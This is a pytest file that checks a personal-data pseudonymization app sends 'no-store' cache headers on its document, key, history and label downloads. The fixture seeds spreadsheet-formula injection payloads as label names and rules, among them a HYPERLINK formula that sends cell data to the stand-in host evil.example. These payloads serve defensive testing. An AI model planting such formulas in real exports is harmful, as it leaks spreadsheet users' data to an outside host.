"""Downloads of personal data are never stored by caches (``Cache-Control: no-store``).
"""
from __future__ import annotations

import pytest

from tests.documents import add_document, label_span
from tests.helpers import (
    new_project,
    sql,
)
from tests.people import SMITH_TEXT_A
from tests.web.helpers import add_label, add_rule

# --- a project whose names are spreadsheet formulas --------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture()
def evil_project(clean_app):
    app = clean_app
    pid = new_project(app, "Evil project")
    doc = add_document(app, SMITH_TEXT_A, [("John Smith", "PERSON")], project_id=pid, name="a.txt")
    sql(app, "UPDATE rule SET confidence = -1 WHERE project_id = %s AND type = 'NE_TYPE'", (pid,))
    label = add_label(app, pid, EVIL, "PERSON", replacement="@SUM(1+1)")
    add_rule(app, pid, "+cmd", label_id=label)
    label_span(app, doc, "John", label)
    sql(app, "INSERT INTO decision_log (project_id, document_id, first_token, end_token, action, decision, "
             "label_name) VALUES (%s, %s, 0, 2, 'decide', 'PRIVATE', %s)", (pid, doc, EVIL))
    return {"pid": pid, "doc": doc}


# --- downloads of personal data are never stored by caches --------------------------------------------------
def test_personal_data_downloads_are_no_store(admin_client, evil_project):
    doc, pid = evil_project["doc"], evil_project["pid"]
    sql_xml = "UPDATE document SET tagged_xml = '<submission/>' WHERE id = %s"
    sql(admin_client.application, sql_xml, (doc,))
    paths = [f"/documents/{doc}/download/{kind}" for kind in ("input", "xml", "tag", "remove", "pseudonymize")]
    paths += [f"/documents/project/{pid}/download/{kind}" for kind in ("input", "tag", "pseudonymize")]
    paths += [f"/documents/project/{pid}/key.json?reason=audit+check",
              f"/documents/project/{pid}/key.csv?reason=audit+check",
              f"/documents/{doc}/history.json", f"/documents/{doc}/history.csv", f"/labels/{pid}/export.csv"]
    for path in paths:
        response = admin_client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        assert response.headers["Cache-Control"] == "no-store", path
        assert "no-cache" not in response.headers["Cache-Control"]
        content_type = response.headers["Content-Type"]
        assert content_type.count("charset") <= 1, (path, content_type)
    assert admin_client.get(f"/documents/{doc}/download/input").headers["Content-Type"] == "text/plain; charset=utf-8"
    # static assets may still be cached
    assert "no-store" not in admin_client.get("/static/psan.css").headers.get("Cache-Control", "")
